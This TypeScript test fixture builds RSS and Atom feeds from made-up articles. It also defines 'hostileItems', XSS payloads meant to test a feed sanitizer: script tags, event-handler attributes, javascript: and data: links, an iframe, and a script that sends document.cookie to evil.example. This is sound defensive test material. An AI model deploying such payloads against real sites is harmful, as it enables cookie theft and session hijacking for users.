/** Small RSS 2.0 and Atom documents for the fixture server; every text is made up here. */

export interface FixtureItem {
  guid: string;
  title: string;
  link: string;
  author?: string;
  date: Date;
  summaryHtml: string;
  image?: string;
}

const xml = (value: string) =>
  value.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');

export function rssDocument(title: string, items: FixtureItem[], encoding = 'UTF-8'): string {
  const entries = items.map(
    (item) => `<item>
  <title>${xml(item.title)}</title>
  <link>${xml(item.link)}</link>
  <guid isPermaLink="false">${xml(item.guid)}</guid>
  <pubDate>${item.date.toUTCString()}</pubDate>
  ${item.author ? `<dc:creator>${xml(item.author)}</dc:creator>` : ''}
  <description>${xml(item.summaryHtml)}</description>
  ${item.image ? `<media:content url="${xml(item.image)}" medium="image" />` : ''}
</item>`,
  );
  return `<?xml version="1.0" encoding="${encoding}"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">
<channel><title>${xml(title)}</title><link>https://journal.example/</link><description>Fixture</description>
${entries.join('\n')}
</channel></rss>`;
}

export function atomDocument(title: string, items: FixtureItem[]): string {
  const entries = items.map(
    (item) => `<entry>
  <title type="html">${xml(item.title)}</title>
  <link rel="alternate" href="${xml(item.link)}" />
  <id>${xml(item.guid)}</id>
  <published>${item.date.toISOString()}</published>
  <updated>${item.date.toISOString()}</updated>
  ${item.author ? `<author><name>${xml(item.author)}</name></author>` : ''}
  <summary type="html">${xml(item.summaryHtml)}</summary>
</entry>`,
  );
  return `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>${xml(title)}</title><id>urn:fixture:${xml(title)}</id>
<updated>2026-01-01T00:00:00Z</updated>
${entries.join('\n')}
</feed>`;
}

const day = 24 * 60 * 60 * 1000;

/** n articles, the newest first, one day apart, counting back from 2026-03-01. */
export function fixtureItems(prefix: string, n: number): FixtureItem[] {
  return Array.from({ length: n }, (_, i) => ({
    guid: `${prefix}-${i + 1}`,
    title: `${prefix} study number ${i + 1}`,
    link: `https://journal.example/${prefix}/${i + 1}`,
    author: `Author ${String.fromCharCode(65 + (i % 26))}`,
    date: new Date(Date.UTC(2026, 2, 1) - i * day),
    summaryHtml: `<p>Findings of <strong>${prefix} ${i + 1}</strong>.</p>`,
  }));
}

/** Summaries carrying every trick a hostile feed might try. */
export const hostileItems: FixtureItem[] = [
  {
    guid: 'hostile-1',
    title: 'Safe title <script>alert("t")</script>',
    link: 'https://journal.example/hostile/1',
    date: new Date(Date.UTC(2026, 1, 1)),
    summaryHtml:
      '<p onclick="steal()">Read <a href="javascript:alert(1)">this</a> and <a href="/relative/path">that</a>.</p>' +
      '<script>document.location="https://evil.example/?c="+document.cookie</script>' +
      '<img src="https://images.example/pic.jpg" onerror="steal()">' +
      '<iframe src="https://evil.example/frame"></iframe><style>body{display:none}</style>' +
      '<svg onload="steal()"><circle r="1"/></svg><a href="data:text/html,<b>x</b>">data</a>',
  },
  {
    guid: 'hostile-2',
    title: 'Second hostile item',
    link: 'javascript:alert(2)',
    date: new Date(Date.UTC(2026, 1, 2)),
    summaryHtml: '<p>No safe link: this item must be skipped.</p>',
  },
];
